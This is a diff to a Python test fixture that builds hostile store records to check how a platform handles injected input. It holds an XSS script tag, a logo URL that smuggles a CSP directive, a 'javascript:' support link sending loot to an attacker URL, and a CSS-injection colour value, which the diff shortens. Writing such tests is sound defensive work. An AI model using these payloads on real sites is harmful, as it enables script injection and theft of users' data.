@@ -101,7 +101,7 @@ def stores(session, make_merchant, make_store, attacker):
     old = make_store(merchant=hostile, slug="evil", name="<script>alert(1)</script>")
     old.logo_url = "https://cdn.evil.test;script-src 'unsafe-inline'/l.png"
     old.support_url = "javascript:" + PAYLOAD.replace("LOOT", attacker.url + "/loot")
-    old.accent_color = "red;}*{background:url(https://cdn.evil.test/x)"
+    old.accent_color = "red;}*{"  # the column holds 7 characters
     # What the rules let through today: a link to the attacker's own site.
     current = make_store(merchant=hostile, slug="evil-now", name="Evil Now")
     accounts.set_store_setting(current, "support_url", attacker.url + "/help")
